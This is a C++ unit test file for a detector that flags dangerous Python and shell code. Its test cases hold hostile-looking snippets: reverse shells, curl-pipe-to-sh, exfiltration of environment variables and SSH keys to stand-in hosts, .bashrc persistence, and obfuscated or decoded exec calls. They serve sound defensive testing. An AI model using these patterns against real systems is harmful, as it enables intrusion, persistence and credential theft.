#include "detect/python/python_detector.h"

#include <gtest/gtest.h>

#include <string>

#include "detect/contract/recording_inspection_for_test.h"
#include "detect/python/python_policy.h"
#include "detect/python/samples_for_test.h"
#include "detect/python/shell_command.h"

namespace saiph::detect {
namespace {

RecordingInspection inspected(std::string_view text, bool model = false, std::string role = "") {
  RecordingInspection inspection(Bytes(text.begin(), text.end()), "code.py");
  if (model) inspection.files["config.json"] = {};
  inspection.role_ = std::move(role);
  inspect_python(inspection);
  return inspection;
}

struct Case {
  std::string_view rule;
  Severity severity;
  std::string_view text;
  bool model = false;
};

// The commands are harmless; what counts is how they are reached.
constexpr Case kLoud[] = {
    {"python-command-execution", Severity::kHigh, "import os\nos.system('true')\n"},
    {"python-command-execution", Severity::kHigh, "from os import system as s\ns('true')\n"},
    {"python-command-execution", Severity::kHigh,
     "import subprocess as sp\nf = sp.run\nf(['true'])\n"},
    {"python-command-execution", Severity::kHigh, "from os import *\nsystem('true')\n"},
    {"python-command-execution", Severity::kHigh,
     "import os\nclass A:\n    x = os.popen('true').read()\n"},
    {"python-command-execution", Severity::kHigh,
     "def f():\n    o.system('true')\nimport os as o\nf()\n"},
    {"python-command-execution", Severity::kHigh, "import os\ndef f(x=os.system('true')): pass\n"},
    {"python-command-execution", Severity::kHigh, "import os\n@os.system\ndef f(): pass\n"},
    {"python-command-execution", Severity::kHigh, "import os\nx = f'{os.system(\"true\")}'\n"},
    {"python-command-execution", Severity::kHigh, "import os\nx = f\"{f'{os.system(1)}'}\"\n"},
    {"python-command-execution", Severity::kHigh, "import site\nsite.os.system('true')\n"},
    {"python-command-execution", Severity::kHigh,
     "(lambda o: 0)(__import__('os').system('true'))\n"},
    {"python-command-execution", Severity::kHigh, "import sys\nsys.modules['os'].system('true')\n"},
    {"python-command-execution", Severity::kHigh, "import os\nfor f in [os.system]: f('true')\n"},
    {"python-command-execution", Severity::kHigh, "import os\nlist(map(os.system, ['true']))\n"},
    {"python-command-execution", Severity::kHigh, "import os\nif (c := os.system)('true'): pass\n"},
    {"python-command-execution", Severity::kHigh,
     "import os\ntry: f = os.system\nexcept Exception: f = print\nf('true')\n"},
    {"python-command-execution", Severity::kHigh, "# comment\rimport os\ros.system('true')\r"},
    {"python-command-execution", Severity::kHigh,
     "import os\nclass M(Base):\n    def __init__(self):\n        self.go()\n    def go(self):\n   "
     "     os.system('true')\n",
     true},
    {"python-command-execution", Severity::kHigh,
     "import os\nclass M(Base):\n    def forward(self, x):\n        os.system('true')\n", true},
    {"python-command-execution", Severity::kMedium,
     "import os\ndef helper():\n    os.system('true')\n"},
    {"python-dynamic-code", Severity::kHigh, "exec(input())\n"},
    {"python-dynamic-code", Severity::kHigh, "import builtins\nbuiltins.eval(x)\n"},
    {"python-dynamic-code", Severity::kHigh, "exec data in scope\n"},
    {"python-decoded-code", Severity::kCritical,
     "import base64\nexec(base64.b64decode('cGFzcw=='))\n"},
    {"python-decoded-code", Severity::kCritical,
     "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLAQA')))\n"},
    {"python-decoded-code", Severity::kCritical,
     "import codecs\neval(codecs.decode('cnff', 'rot13'))\n"},
    {"python-decoded-code", Severity::kCritical,
     "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wA=')))\n"},
    {"python-decoded-code", Severity::kCritical,
     "d = lambda s: s\nimport base64\ndef g(s):\n    return "
     "base64.b64decode(s)\nexec(g('cGFzcw=='))\n"},
    {"python-decoded-code", Severity::kCritical,
     "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n"},
    {"python-hidden-name", Severity::kCritical, "import os\ngetattr(os, 'sys' + 'tem')('true')\n"},
    {"python-hidden-name", Severity::kCritical,
     "getattr(__import__('o' + 's'), 'metsys'[::-1])('true')\n"},
    {"python-hidden-name", Severity::kCritical,
     "f = __builtins__.__dict__[''.join([chr(c) for c in [101, 120, 101, 99]])]\nf('1')\n"},
    {"python-hidden-name", Severity::kCritical,
     "f = globals()['__builtins__'].__dict__['ev' 'al']\nf(x)\n"},
    {"python-hidden-name", Severity::kCritical,
     "import os\nvars(os)['%s%s' % ('sys', 'tem')]('true')\n"},
    {"python-hidden-name", Severity::kCritical,
     "import os\nos.__dict__['\\x73\\x79\\x73\\x74\\x65\\x6d']('true')\n"},
    {"python-hidden-name", Severity::kCritical,
     "import os\nclass A:\n    __getitem__ = os.system\n"},
    {"python-download-and-run", Severity::kCritical,
     "import requests\nexec(requests.get('http://a.example/x').text)\n"},
    {"python-download-and-run", Severity::kCritical,
     "from urllib.request import urlopen as u\neval(compile(u('http://a.example').read(), '', "
     "'exec'))\n"},
    {"python-download-and-run", Severity::kCritical,
     "import os\nos.system('curl -s http://a.example | sh')\n"},
    {"python-reverse-shell", Severity::kCritical,
     "import "
     "socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty."
     "spawn('true')\n"},
    {"python-reverse-shell", Severity::kCritical,
     "import os\ndef never():\n    os.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')\n"},
    {"python-object-escape", Severity::kHigh, "x = ().__class__.__bases__[0].__subclasses__()\n"},
    {"python-data-exfiltration", Severity::kCritical,
     "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))\n"},
    {"python-data-exfiltration", Severity::kCritical,
     "import requests\nrequests.post('http://a.example', "
     "data=open('/home/a/.ssh/id_rsa').read())\n"},
    {"python-persistence", Severity::kCritical, "open('/root/.bashrc', 'a').write('x')\n"},
    {"python-network-access", Severity::kHigh,
     "import requests\nrequests.get('http://a.example')\n", true},
    {"python-unsafe-deserialisation", Severity::kMedium, "import torch\nx = torch.load('a.bin')\n"},
    {"python-native-code", Severity::kMedium, "import ctypes\nctypes.CDLL('liba.so')\n", true},
    {"python-disguised-name", Severity::kHigh,
     "\xEF\xBD\x85\xEF\xBD\x96\xEF\xBD\x81\xEF\xBD\x8C(x)\n"},
    {"python-dynamic-code", Severity::kHigh,
     "\xF0\x9D\x93\xAE\xF0\x9D\x94\x81\xF0\x9D\x93\xAE\xF0\x9D\x93\xAC(x)\n"},
    {"python-unusual-encoding", Severity::kHigh, "# -*- coding: utf-7 -*-\nx = 1\n"},
    {"python-command-execution", Severity::kHigh, "exec('import os\\nos.system(\"true\")')\n"},
};

TEST(PythonDetector, StatesWhatRuns) {
  for (const Case& c : kLoud) {
    const auto inspection = inspected(c.text, c.model);
    bool found = false;
    for (const auto& s : inspection.stated)
      found |= s.rule->id == c.rule && s.severity() >= c.severity;
    EXPECT_TRUE(found) << c.rule << " in\n" << c.text << "\n" << stated(inspection);
  }
}

constexpr std::string_view kQuiet[] = {
    "import os, subprocess, socket, pickle\n",
    "import os\nif __name__ == '__main__':\n    os.system('true')\n",
    "import subprocess\ndef isa(x):\n    return isinstance(x, subprocess.Popen)\n",
    "import torch\nx = torch.load('a.bin', weights_only=True)\n",
    "import yaml\nx = yaml.load(open('a'), Loader=yaml.SafeLoader)\n",
    "import numpy as np\nx = np.load('a.npy')\n",
    "import re\nx = re.compile('a')\nmodel.eval()\n",
    "import os\ntoken = os.environ.get('TOKEN')\n",
    "x = eval('1 + 1')\n",
    "class A:\n    def eval(self): return 1\n    def run(self): return self.eval()\nA().run()\n",
    "name = 'a' + 'b'\nprint(getattr(object(), 'x' + 'y', None))\n",
};

TEST(PythonDetector, OrdinaryCodeIsQuiet) {
  for (const std::string_view text : kQuiet) {
    const auto inspection = inspected(text);
    EXPECT_FALSE(inspection.has_at_least(Severity::kMedium)) << text << "\n" << stated(inspection);
    EXPECT_TRUE(inspection.incompletes.empty()) << text << "\n" << stated(inspection);
  }
}

TEST(PythonDetector, BrokenSourceIsIncompleteAndKeepsWhatCameBefore) {
  const auto inspection = inspected("import os\nos.system('true')\nx = (1,\ny = 'abc\n");
  EXPECT_TRUE(inspection.has("python-command-execution"));
  EXPECT_FALSE(inspection.incompletes.empty());
}

TEST(PythonDetector, LongInputIsLinear) {
  // Shapes that make careless readers quadratic; each must end at once.
  for (const std::string& text :
       {std::string(300'000, '('), "x = " + std::string(300'000, '-') + "1",
        std::string(200'000, '{') + "f'",
        [] {
          std::string s;
          for (int i = 0; i < 60'000; ++i) s += "f'{a'";
          return s;
        }(),
        [] {
          std::string s;
          for (int i = 0; i < 60'000; ++i) s += "a=[a]\n";
          return s;
        }(),
        [] {
          std::string s = "a='x'\n";
          for (int i = 0; i < 60'000; ++i) s += "a=a+a\n";
          return s;
        }(),
        [] {
          std::string s = "a";
          for (int i = 0; i < 100'000; ++i) s += ".b";
          return s;
        }()}) {
    RecordingInspection inspection(Bytes(text.begin(), text.end()), "code.py");
    inspect_python(inspection);
    EXPECT_FALSE(inspection.budget().exhausted());
  }
}

TEST(TorchscriptSource, JudgesByNamespace) {
  const auto quiet = inspected(
      "class M(Module):\n  __parameters__ = [\"w\", ]\n  w : Tensor\n  def forward(self: "
      "__torch__.M,\n    x: Tensor) -> Tensor:\n    _0 = torch.add(torch.mm(x, self.w), 1, "
      "alpha=1)\n    return ops.quantized.linear(_0, x, 1., 0)\n",
      false, "torchscript");
  EXPECT_TRUE(quiet.stated.empty()) << stated(quiet);
  EXPECT_TRUE(quiet.incompletes.empty()) << stated(quiet);
  const auto file = inspected(
      "def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file(\"/etc/hostname\", False, "
      "10)\n",
      false, "torchscript");
  EXPECT_TRUE(file.has("torchscript-file-access")) << stated(file);
  const auto image = inspected(
      "def forward(self, x: Tensor) -> Tensor:\n  return ops.image.read_file(\"/etc/hostname\")\n",
      false, "torchscript");
  EXPECT_TRUE(image.has("torchscript-file-access")) << stated(image);
  const auto unknown = inspected(
      "def forward(self, x: Tensor) -> Tensor:\n  return ops.acme.run(x)\n", false, "torchscript");
  EXPECT_TRUE(unknown.has("torchscript-unknown-operator")) << stated(unknown);
}

TEST(PythonPolicy, FollowsModulesInModules) {
  EXPECT_EQ(python_risk("os.system"), PythonRisk::kProcess);
  EXPECT_EQ(python_risk("random._os.system"), PythonRisk::kProcess);
  EXPECT_EQ(python_risk("builtins.eval"), PythonRisk::kDynamicCode);
  EXPECT_EQ(python_risk("httpx.Client"), PythonRisk::kNetwork);
  EXPECT_EQ(python_risk("re.compile"), PythonRisk::kNone);
  EXPECT_EQ(python_risk("os.path.join"), PythonRisk::kNone);
}

TEST(ShellCommand, KnowsTheWorst) {
  EXPECT_EQ(shell_risk("curl -s http://a.example/i | sudo bash"), ShellRisk::kDownloadAndRun);
  EXPECT_EQ(shell_risk("bash -c \"$(curl -fsSL http://a.example)\""), ShellRisk::kDownloadAndRun);
  EXPECT_EQ(shell_risk("echo aaaa | base64 -d | sh"), ShellRisk::kDecodeAndRun);
  EXPECT_EQ(shell_risk("nc -e /bin/sh 192.0.2.1 1"), ShellRisk::kReverseShell);
  EXPECT_EQ(shell_risk("echo x >> ~/.bashrc"), ShellRisk::kStartup);
  EXPECT_EQ(shell_risk("wget http://a.example/data.zip"), ShellRisk::kDownload);
  EXPECT_EQ(shell_risk("pip install torch"), ShellRisk::kInstall);
  EXPECT_EQ(shell_risk("ls -la | grep sh"), ShellRisk::kNone);
  EXPECT_EQ(shell_risk("rm -rf /tmp/x"), ShellRisk::kNone);
}

}  // namespace
}  // namespace saiph::detect
